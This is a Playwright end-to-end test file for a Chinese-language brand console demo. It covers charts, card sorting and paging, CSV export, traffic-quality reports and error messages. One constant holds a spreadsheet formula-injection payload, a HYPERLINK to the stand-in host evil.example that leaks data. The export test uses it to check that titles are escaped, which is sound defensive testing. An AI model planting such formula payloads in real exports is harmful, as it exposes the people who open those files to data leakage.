// The demo brand's console as a brand manager uses it: a month of seeded history charted by
// day (with a data table), cards sorted and paged, both exported as CSV (a hostile title
// stays text in a spreadsheet), the invalid-traffic report by reason, Chinese labels only
// (no API field names), and a revocation the server refuses explained.

import { readFileSync } from "node:fs";
import type { Page } from "@playwright/test";
import { issueCard } from "../support/cards.js";
import { expect, test } from "../support/fixtures.js";

test.use({ viewport: { width: 1280, height: 900 } });

const HOSTILE = '=HYPERLINK("http://evil.example/?leak","点我领券"),+1';

/** The ids of the cards on the table's current page, in order. */
const rowIds = (page: Page) => page.locator("#cards tr").evaluateAll((rows) => rows.map((row) => row.getAttribute("data-card-id")));

async function open(page: Page, url: string) {
  await page.goto(`${url}/demo/console.html`);
  await expect(page.locator("#cards tr").first()).toBeVisible();
}

test("30 days of seeded history, charted and tabulated, with figures that differ day to day", async ({ page, server }) => {
  await open(page, server.url);
  await expect(page.getByRole("img", { name: /近 30 天每日曝光/ })).toBeVisible();
  await expect(page.getByRole("img", { name: /近 30 天每日点击与独立访客/ })).toBeVisible();
  await expect(page.locator('svg[data-chart="impressions"] g[data-day]')).toHaveCount(30);
  await expect(page.locator('svg[data-chart="engagement"] g[data-day]')).toHaveCount(30);
  // The chart's description sums it up for screen readers.
  await expect(page.locator("svg[data-chart=impressions] desc")).toContainText(/曝光合计 [\d,]+，最高 \d\d-\d\d/);

  // The data table beside the charts: 30 days, not one repeated.
  await page.getByText("查看每日数据表").click();
  const days = page.locator("#days tr");
  await expect(days).toHaveCount(30);
  const impressions = await days.locator("td:nth-child(2)").allTextContents();
  expect(new Set(impressions).size).toBeGreaterThan(20);
  expect(impressions.filter((value) => value === "0").length).toBeLessThan(3);
});

test("the card table sorts by its header buttons (aria-sort) and pages through the cards", async ({ page, server }) => {
  await open(page, server.url);
  const table = page.locator("#cards-table");
  const impressionsHeader = table.locator('th[data-sort="impressions"]');
  await expect(impressionsHeader).toHaveAttribute("aria-sort", "descending");
  const first = await rowIds(page);
  expect(first).toHaveLength(10);
  // The best card first: its impressions are the largest on the page.
  const counts = (await table.locator("#cards tr td:nth-child(3)").allTextContents()).map((text) => Number(text.replaceAll(",", "")));
  expect(counts).toEqual([...counts].sort((a, b) => b - a));
  expect(counts[0]).toBeGreaterThan(counts[9]! * 5);

  await impressionsHeader.getByRole("button", { name: "曝光" }).click();
  await expect(impressionsHeader).toHaveAttribute("aria-sort", "ascending");
  expect(await rowIds(page)).not.toEqual(first);

  const titleHeader = table.locator('th[data-sort="title"]');
  await titleHeader.getByRole("button", { name: "卡片" }).click();
  await expect(titleHeader).toHaveAttribute("aria-sort", "ascending");
  await expect(impressionsHeader).not.toHaveAttribute("aria-sort", /.*/);

  // Pagination: 10 a page.
  const status = page.locator("#page-status");
  await expect(status).toHaveText(/^第 1 \/ (\d+) 页 · 共 \d+ 张$/);
  const pages = Number(/\/ (\d+) 页/.exec((await status.textContent())!)![1]);
  expect(pages).toBeGreaterThanOrEqual(3);
  await expect(page.getByRole("button", { name: "上一页" })).toBeDisabled();
  const pageOne = await rowIds(page);
  await page.getByRole("button", { name: "下一页" }).click();
  await expect(status).toHaveText(/^第 2 \//);
  const pageTwo = await rowIds(page);
  expect(pageTwo.some((id) => pageOne.includes(id))).toBe(false);
  await page.getByRole("button", { name: "上一页" }).click();
  expect(await rowIds(page)).toEqual(pageOne);
});

test("the cards and the days export as CSV, a hostile title kept as text", async ({ page, request, server }) => {
  const card = await issueCard(request, server, { title: HOSTILE });
  await open(page, server.url);
  const [cardsFile] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "导出卡片数据 CSV" }).click()]);
  expect(cardsFile.suggestedFilename()).toMatch(/^星光影城-卡片数据-\d{4}-\d{2}-\d{2}\.csv$/);
  const csv = readFileSync((await cardsFile.path())!, "utf8");
  expect(csv.startsWith("\uFEFF卡片编号,标题,类型,位置,状态,曝光,点击,点击率,独立访客\r\n")).toBe(true);
  const lines = csv.slice(1).trimEnd().split("\r\n");
  // Every card of the table, not only the page shown.
  expect(lines.length - 1).toBe(Number(/共 (\d+) 张/.exec((await page.locator("#page-status").textContent())!)![1]));
  // Quoted (it has quotes and a comma), its quotes doubled, and prefixed so no spreadsheet runs it.
  expect(lines).toContain(`${card.id},"'=HYPERLINK(""http://evil.example/?leak"",""点我领券""),+1",小程序,私信,有效,0,0,0,0`);
  expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);

  const [daysFile] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "导出每日数据 CSV" }).click()]);
  const days = readFileSync((await daysFile.path())!, "utf8").slice(1).trimEnd().split("\r\n");
  expect(days[0]).toBe("日期,曝光,点击,点击率,独立访客");
  expect(days).toHaveLength(31);
  expect(days[1]).toMatch(/^\d{4}-\d{2}-\d{2},\d+,\d+,[\d.]+,\d+$/);
});

test("the invalid-traffic report breaks every event down by reason", async ({ page, request, server }) => {
  await open(page, server.url);
  const stats = await (await request.get(`${server.url}/v1/brands/me/stats`, { headers: { authorization: `Bearer ${server.apiKey}` } })).json();
  for (const [quality, label] of [["credited", "有效流量"], ["unverified", "未验证"], ["bot", "机器人"], ["suspect", "可疑"]] as const) {
    const row = page.locator(`tr[data-quality="${quality}"]`);
    await expect(row.locator("th")).toContainText(label);
    const shown = Number((await row.locator("td[data-impressions]").textContent())!.replaceAll(",", ""));
    expect(shown).toBe(stats.byQuality[quality].impressions);
    if (quality !== "credited") expect(shown).toBeGreaterThan(0);
  }
  await expect(page.locator('[data-figure="invalidClickRate"] dt')).toHaveText("无效点击率");
  await expect(page.locator('[data-figure="invalidClickRate"] dd')).toHaveText(/^\d+\.\d%$/);
});

test("labels are Chinese, with no API field names or English states, on pages marked zh-CN", async ({ page, server }) => {
  for (const path of ["console.html", "share.html", "", "chat.html", "profile.html"]) {
    await page.goto(`${server.url}/demo/${path}`);
    await expect(page.locator("html")).toHaveAttribute("lang", "zh-CN");
  }
  await open(page, server.url);
  await page.getByText("查看每日数据表").click();
  const text = await page.locator("body").innerText();
  for (const raw of ["pvGranted", "pvDelivered", "pvBalance", "byQuality", "impressions", "clicks", "ctr", "uv", "active", "revoked", "expired", "credited", "unverified", "suspect"]) {
    expect(text, raw).not.toMatch(new RegExp(`\\b${raw}\\b`, "i"));
  }
  await expect(page.locator('[data-figure="pvGranted"] dt')).toHaveText("获得曝光");
});

test("a revocation the server refuses is explained, with the problem's detail and code", async ({ page, request, server }) => {
  const card = await issueCard(request, server, { title: "撤回失败测试" });
  await open(page, server.url);
  await page.getByRole("button", { name: "卡片", exact: true }).click(); // find it among the cards without traffic
  await page.route(`**/demo/api/brand/cards/${card.id}`, (route) =>
    route.fulfill({ status: 503, contentType: "application/problem+json", body: JSON.stringify({ type: "about:blank", title: "Service Unavailable", status: 503, code: "store_unavailable", detail: "the database did not answer in time" }) }),
  );
  let row = page.locator(`tr[data-card-id="${card.id}"]`);
  while (!(await row.isVisible())) await page.getByRole("button", { name: "下一页" }).click();
  await row.getByRole("button", { name: "撤回「撤回失败测试」" }).click();
  const alert = page.locator("#cards-message [role=alert]");
  await expect(alert).toContainText("撤回「撤回失败测试」失败：the database did not answer in time（store_unavailable · HTTP 503）");
  await expect(row.getByText("有效")).toBeVisible();
  await expect(row.getByRole("button")).toBeEnabled();
  row = page.locator(`tr[data-card-id="${card.id}"]`);

  // The server answers this time: revoked, and said so.
  await page.unroute(`**/demo/api/brand/cards/${card.id}`);
  await row.getByRole("button").click();
  await expect(page.locator("#cards-message [role=status]")).toContainText("已撤回「撤回失败测试」");
});

test("screenshot: the console on a desktop", async ({ page, server }) => {
  await page.setViewportSize({ width: 1280, height: 1900 });
  await open(page, server.url);
  await expect(page.locator('svg[data-chart="engagement"]')).toBeVisible();
  await page.screenshot({ path: "e2e/screenshots/brand-console-month.png" });
});
